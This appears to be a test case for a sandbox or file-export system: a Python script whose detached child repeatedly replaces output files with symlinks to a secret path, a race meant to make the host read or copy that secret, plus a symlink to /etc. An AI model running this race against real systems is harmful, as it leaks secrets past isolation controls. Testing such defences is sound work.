# What: leaves a child that swaps files for links in a tight loop, also in a folder's place.
# Ends: exited
# Code: 0
import json
import os
import time

target = json.load(open("/in/host.json"))["secrets"][0]
os.mkdir("/tmp/folder")
os.symlink("/etc", "/tmp/etc")
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 1024)
    while True:
        try:
            for number in range(20):
                with open("/out/new", "w") as file:
                    file.write("kept")
                os.rename("/out/new", f"/out/{number}.txt")
                os.symlink(target, "/out/new")
                os.rename("/out/new", f"/out/{number}.txt")
        except OSError:
            pass
time.sleep(0.1)
print("TRIED")
